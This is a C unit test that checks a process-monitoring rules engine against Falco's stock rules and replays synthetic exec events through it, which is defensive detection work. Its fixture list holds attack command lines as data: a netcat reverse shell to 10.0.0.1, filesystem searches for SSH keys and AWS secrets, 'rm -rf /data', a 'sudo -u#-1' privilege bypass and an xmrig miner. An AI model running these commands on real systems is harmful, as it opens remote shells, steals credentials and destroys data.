/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Falco's three stock rules files, unmodified, against the rules engine: each
 * file of $top_srcdir/../shared/corpus/falco (never copied into the project)
 * is loaded on its own, as Falco loads it, and must load without an error or a
 * broken rule. Then, with every rule enabled, classification.tsv says what
 * each rule needs:
 *   class a (process execution only): loaded, or skipped only for a field of
 *           the allow-list below (what proctrail truly cannot have);
 *   class b and mixed (other syscalls): skipped, with a reason.
 * Prints each rule's state and reason and the counts. Exit 77 when the corpus
 * is absent.
 *
 *   tests/unit/test-rules-corpus [-v] [DIR]     (-v: each alert's JSON line)
 */
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "rules-int.h"

/*
 * Fields a process-only rule may need that proctrail cannot have:
 * - proc.is_exe_upper_layer: whether the executable lies in an overlayfs
 *   upper layer; Falco reads the inode's layer in the kernel at exec time,
 *   which a reader of /proc after the fact cannot do reliably (the file may
 *   be gone or replaced by then).
 * - container.mount.dest: the container's mount destinations, from the
 *   container engine's API; the runtime state proctrail reads carries no
 *   mounts.
 */
static const char *const allowed[] = {
	"proc.is_exe_upper_layer",
	"container.mount.dest",
};

static bool verbose;

static bool is_allowed(const char *f)
{
	for (size_t i = 0; i < sizeof(allowed) / sizeof(allowed[0]); i++)
		if (strcmp(f, allowed[i]) == 0)
			return true;
	return false;
}

struct tally {
	unsigned a_loaded, a_skipped, b_skipped, bad;
	unsigned execs, alerts; /* the plan's check */
	unsigned keyed, planned; /* rules keyed by proc.name, rules cut into conjuncts */
};

static struct rules *load_file(const char *dir, const char *file, struct tally *t)
{
	struct rules_sb en = {0};
	struct rules *rs = rules_new();
	char path[8192];

	if (!rs) {
		perror("rules_new");
		exit(1);
	}
	snprintf(path, sizeof(path), "%s/%s", dir, file);
	if (rules_load(rs, path) < 0 || rules_compile(rs) < 0) {
		for (size_t i = 0; i < rules_ndiag(rs); i++) {
			const struct rules_diag *d = rules_diag(rs, i);

			if (d->level == RULES_ERROR)
				printf("FAIL %s:%u:%u: %s\n", file, d->line, d->col, d->msg);
		}
		t->bad++;
	}
	for (size_t i = 0; i < rules_count(rs); i++) {
		struct rules_info ri;

		rules_info(rs, i, &ri);
		if (ri.state == RULES_BROKEN) {
			printf("FAIL %s: rule '%s' is broken: %s\n", file, ri.name, ri.why);
			t->bad++;
		}
		/* enable it, to see what it needs */
		rules_sb_adds(&en, "- rule: ");
		rules_sb_json(&en, ri.name, strlen(ri.name));
		rules_sb_adds(&en, "\n  enabled: true\n");
	}
	if (en.oom || rules_load_string(rs, "enable-all", en.p ? en.p : "", en.len) < 0 ||
	    rules_compile(rs) < 0) {
		printf("FAIL %s: enabling every rule failed\n", file);
		t->bad++;
	}
	rules_sb_free(&en);
	return rs;
}

/* A class-a rule skipped: is every field it misses allowed? */
static bool skip_allowed(const struct rules_item *r)
{
	const char *f;

	if (!r->c)
		return false;
	for (unsigned i = 0; (f = pt_cond_missing(r->c, i)); i++)
		if (!is_allowed(f))
			return false;
	return pt_cond_missing(r->c, 0) != NULL;
}

static void check_row(struct rules *rs, const char *file, const char *name, const char *cls,
		      struct tally *t)
{
	const struct rules_item *r = rules_find(&rs->rules, name);
	const char *verdict = "ok";

	if (!r) {
		printf("FAIL %-28s %-60s not found\n", file, name);
		t->bad++;
		return;
	}
	if (strcmp(cls, "a") == 0) {
		if (r->state == RULES_LOADED) {
			t->a_loaded++;
		} else if (r->state == RULES_SKIPPED && skip_allowed(r)) {
			t->a_skipped++;
			verdict = "ok (allowed)";
		} else {
			verdict = "FAIL";
			t->bad++;
		}
	} else if (r->state == RULES_SKIPPED && r->why && *r->why) {
		t->b_skipped++;
	} else {
		verdict = "FAIL";
		t->bad++;
	}
	printf("%-12s %-5s %-28s %-8s %s%s%s\n", verdict, cls, file, rules_state_name(r->state),
	       name, r->why ? ": " : "", r->why ? r->why : "");
}

/* ---- the evaluation plan against each rule's whole condition ---- */

struct agree {
	struct rules *rs;
	struct pt_monitor *m;
	struct tally *t;
	const char *file;
};

static void on_alert(const struct rules_alert *al, void *data)
{
	const struct agree *a = data;

	printf("alert        %-28s %-8s %s\n", a->file, pt_proc_comm(al->ev->proc), al->rule);
	if (verbose)
		printf("%s\n", al->json);
}

static void on_event(const struct pt_event *ev, void *data)
{
	struct agree *a = data;
	unsigned whole = 0, plan;

	if (ev->type != PT_EV_EXEC)
		return;
	for (size_t i = 0; i < a->rs->nrun; i++)
		whole += pt_cond_match(a->rs->run[i]->c, a->m, ev->proc, ev);
	plan = rules_eval(a->rs, a->m, ev, on_alert, a);
	a->t->execs++;
	a->t->alerts += plan;
	if (plan != whole) {
		printf("FAIL %s: exec of %s: %u rules match, the plan says %u\n", a->file,
		       pt_proc_comm(ev->proc), whole, plan);
		a->t->bad++;
	}
}

/* Execs the stock process rules describe, and harmless ones. */
static const struct {
	int pid, ppid;
	const char *comm, *exe, *argv;
	unsigned uid, euid;
} execs[] = {
	{100, 1, "sshd", "/usr/sbin/sshd", "[\"sshd\",\"-D\"]", 0, 0},
	{200, 100, "bash", "/usr/bin/bash", "[\"-bash\"]", 0, 0},
	{300, 200, "find", "/usr/bin/find", "[\"find\",\"/\",\"-name\",\"id_rsa\"]", 0, 0},
	{301, 200, "grep", "/usr/bin/grep", "[\"grep\",\"-r\",\"aws_secret_access_key\",\"/\"]", 0,
	 0},
	{302, 200, "x", "/dev/shm/x", "[\"/dev/shm/x\"]", 0, 0},
	{303, 200, "ls", "/usr/bin/ls", "[\"ls\",\"-l\"]", 1000, 1000},
	{304, 200, "sudo", "/usr/bin/sudo", "[\"sudo\",\"-u#-1\",\"/bin/bash\"]", 1000, 0},
	{305, 200, "rm", "/usr/bin/rm", "[\"rm\",\"-rf\",\"/data\"]", 0, 0},
	{400, 1, "nginx", "/usr/sbin/nginx", "[\"nginx\"]", 33, 33},
	{401, 400, "sh", "/bin/sh", "[\"sh\",\"-c\",\"id\"]", 33, 33},
	{402, 401, "nc", "/usr/bin/nc", "[\"nc\",\"-e\",\"/bin/sh\",\"10.0.0.1\",\"4444\"]", 33,
	 33},
	{403, 401, "xmrig", "/tmp/xmrig", "[\"xmrig\",\"-o\",\"stratum+tcp://pool:3333\"]", 33, 33},
};

static void check_plan(struct rules *rs, const char *file, struct tally *t)
{
	struct agree a = {.rs = rs, .t = t, .file = file};
	struct pt_options o;
	char line[1024], why[256];

	for (size_t i = 0; i < rs->plan.nrules; i++) {
		t->keyed += rs->plan.rules[i].keys.n > 0;
		t->planned += rs->plan.rules[i].ncj > 0;
	}
	pt_options_init(&o);
	o.flags = PT_OPEN_EMPTY;
	o.proc_root = "/nonexistent-proc-root";
	if (pt_monitor_open(&a.m, &o) < 0 || pt_monitor_subscribe(a.m, on_event, &a) < 0) {
		printf("FAIL: an empty monitor\n");
		t->bad++;
		return;
	}
	for (size_t i = 0; i < sizeof(execs) / sizeof(execs[0]); i++) {
		int n = snprintf(line, sizeof(line),
				 "{\"event\":\"exec\",\"time\":\"2026-12-03T08:01:02.123456Z\","
				 "\"pid\":%d,\"tid\":%d,\"ppid\":%d,\"start\":%d,\"comm\":\"%s\","
				 "\"exe\":\"%s\",\"argv\":%s,\"argv_truncated\":false,\"uid\":%u,"
				 "\"euid\":%u,\"gid\":0,\"egid\":0,\"container_id\":\"host\","
				 "\"tier\":\"netlink\"}",
				 execs[i].pid, execs[i].pid, execs[i].ppid, execs[i].pid,
				 execs[i].comm, execs[i].exe, execs[i].argv, execs[i].uid,
				 execs[i].euid);

		if (pt_import_event(a.m, line, (size_t)n, why, sizeof(why)) < 0) {
			printf("FAIL: import: %s: %s\n", why, line);
			t->bad++;
		}
	}
	pt_monitor_close(a.m);
}

int main(int argc, char **argv)
{
	const char *top = getenv("top_srcdir");
	char dir[4096], path[4200], line[8192], cur[256] = "";
	struct rules *rs = NULL;
	struct tally t = {0};
	FILE *f;

	if (argc > 1 && strcmp(argv[1], "-v") == 0) {
		verbose = true;
		argc--;
		argv++;
	}
	if (argc > 1)
		snprintf(dir, sizeof(dir), "%s", argv[1]);
	else
		snprintf(dir, sizeof(dir), "%s/../shared/corpus/falco", top ? top : ".");
	snprintf(path, sizeof(path), "%s/classification.tsv", dir);
	f = fopen(path, "r");
	if (!f) {
		printf("SKIP: %s: %s\n", path, strerror(errno));
		return 77;
	}
	setenv("TZ", "UTC", 1);
	while (fgets(line, sizeof(line), f)) {
		char *cols[7], *save = NULL, *s = line;
		int n = 0;

		line[strcspn(line, "\n")] = '\0';
		while (n < 7 && (cols[n] = strtok_r(s, "\t", &save))) {
			s = NULL;
			n++;
		}
		if (n < 4 || strcmp(cols[0], "file") == 0)
			continue;
		if (strcmp(cols[0], cur) != 0) {
			if (rs)
				check_plan(rs, cur, &t);
			rules_free(rs);
			snprintf(cur, sizeof(cur), "%s", cols[0]);
			rs = load_file(dir, cur, &t);
		}
		check_row(rs, cur, cols[1], cols[3], &t);
	}
	fclose(f);
	if (rs)
		check_plan(rs, cur, &t);
	rules_free(rs);
	printf("plan: %u rules cut into conjuncts, %u keyed by proc.name\n", t.planned, t.keyed);
	printf("class a: %u loaded, %u skipped for an allowed field; class b and mixed: %u "
	       "skipped; the plan agreed on %u execs (%u alerts); %u failures\n",
	       t.a_loaded, t.a_skipped, t.b_skipped, t.execs, t.alerts, t.bad);
	return t.bad ? 1 : 0;
}
